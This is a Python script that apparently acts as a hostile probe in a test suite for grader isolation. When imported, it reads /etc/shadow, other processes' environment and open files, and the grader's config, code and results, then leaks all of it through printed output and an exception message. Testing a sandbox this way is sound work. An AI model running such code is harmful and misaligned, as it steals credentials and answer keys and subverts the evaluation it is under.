"""Read the grader's configuration, code and references, print them and raise them.

Every candidate ROOT's grading.toml, grade.py, judge.py, results.json and setup.sh, the
environment and open files of every other user's process, and /etc/shadow: whatever could
be read is printed and raised in the exception's message, where the student would see it.

target: cnn
base: starter
where: import
rules: off
score: 0
"""

import glob
import os

from common import grader_roots, report

wanted = ["/etc/shadow"]
for proc in glob.glob("/proc/[0-9]*"):
    try:
        if os.stat(proc).st_uid != os.getuid():  # the step's own processes are its own
            wanted += [f"{proc}/environ", *glob.glob(f"{proc}/fd/*")]
    except OSError:
        pass
for root in grader_roots():
    wanted += [f"{root}/source/grading/{n}" for n in ("grading.toml", "grade.py", "judge.py")]
    wanted += [f"{root}/results/results.json", f"{root}/source/setup.sh"]
stolen = {}
for path in wanted:
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try:
            stolen[path] = os.read(fd, 3000).decode(errors="replace")
        finally:
            os.close(fd)
    except OSError:
        pass
report("read_config", roots=grader_roots(), tried=len(wanted), stolen=sorted(stolen))
text = "\n".join(f"{p}:\n{t}" for p, t in stolen.items())
print(text, flush=True)
raise RuntimeError(f"HOSTILE read_config, what it read: {text}")
